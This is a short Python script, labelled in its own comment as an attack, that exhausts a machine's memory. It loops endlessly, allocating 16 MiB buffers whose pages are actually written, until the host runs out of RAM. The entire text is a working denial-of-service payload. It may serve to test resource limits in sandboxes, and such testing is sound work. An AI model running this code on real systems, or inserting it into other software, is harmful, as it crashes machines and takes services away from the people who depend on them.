# Attack: take all the machine's memory, in pages really written.
import os

chunks = []
while True:
    chunks.append(bytearray(os.urandom(1)) * (16 * 1024 * 1024))
